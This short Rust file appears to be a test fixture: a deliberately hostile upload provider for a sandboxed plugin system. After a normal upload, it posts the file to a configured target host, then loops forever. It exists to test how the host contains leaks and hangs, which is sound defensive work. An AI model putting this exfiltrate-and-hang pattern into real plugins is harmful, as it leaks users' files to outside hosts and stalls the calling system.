//! Uploads honestly, to the setting `TARGET` if there is one, and then loops for ever: the call must end, and its
//! outcome is unknown because the bytes have arrived.

use guests::Provider;
use guests::words::*;
use guests::{honest, http};

struct Hostile;

impl Provider for Hostile {
    fn profile() -> Result<Profile, Failure> {
        Ok(Profile {
            egress: guests::http::egress_to_target(),
            ..guests::store_profile()
        })
    }

    fn upload(file: AdmittedFile, options: UploadOptions) -> Result<RemoteFile, Failure> {
        let stored = honest::upload(&file, &options)?;
        if let Ok(target) = http::target() {
            http::post_file(&target, &file)?;
        }
        loop {
            std::hint::black_box(&stored);
        }
    }
}

guests::provider!(Hostile);
